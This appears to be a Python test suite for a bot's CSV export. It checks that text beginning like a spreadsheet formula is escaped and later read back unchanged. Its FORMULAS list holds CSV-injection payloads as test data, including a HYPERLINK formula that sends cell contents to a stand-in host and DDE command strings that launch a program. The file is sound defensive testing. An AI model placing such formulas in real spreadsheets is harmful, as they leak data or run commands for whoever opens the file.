"""Nothing that a stranger wrote becomes a formula, and what was written is read back as it was
(X12, PEERS: CSV injection)."""

import csv
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.sheets.cells import guarded, restored, written
from bot.sheets.csv_lines import lines
from models.contact import State

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "'=1+1",
]
PLAIN = ["", "Dora", "a=b", "1,5", 'say "hi"', "'tis", " =not at the beginning", "+".join("ab")]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_kept_from_being_one(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert restored(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == restored(text) == text


@given(st.text(alphabet="'=+-@\t\r\nab\uff1d"))
def test_what_was_guarded_comes_back_unchanged(text: str) -> None:
    assert restored(guarded(text)) == text
    assert guarded(text)[:1] not in set("=+-@\t\r\n\uff1d")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (-3, "-3"),
        (0.25, "0.25"),
        (State.CLIENT, "CLIENT"),
        (date(2026, 3, 29), "2026-03-29"),
        (datetime(2026, 3, 29, 1, tzinfo=UTC), "2026-03-29T01:00:00+00:00"),
    ],
)
def test_each_kind_of_value_has_its_form(value: Any, cell: str) -> None:
    assert written(value) == cell


def test_lines_are_read_back_by_any_reader() -> None:
    rows = [["=1+1", 'a "b"', "two\nlines", 1.5], ["", None, "é, ü", -1]]
    found = list(csv.reader("".join(lines(["name", "b", "c", "-d"], iter(rows))).splitlines(True)))
    assert found == [
        ["name", "b", "c", "'-d"],
        ["'=1+1", 'a "b"', "two\nlines", "1.5"],
        ["", "", "é, ü", "-1"],
    ]


def test_lines_come_one_by_one() -> None:
    """A million rows need no memory of a million rows."""

    def endless() -> Any:
        while True:
            yield ["x"]

    first = lines(["name"], endless())
    assert [next(first), next(first)] == ["name\r\n", "x\r\n"]
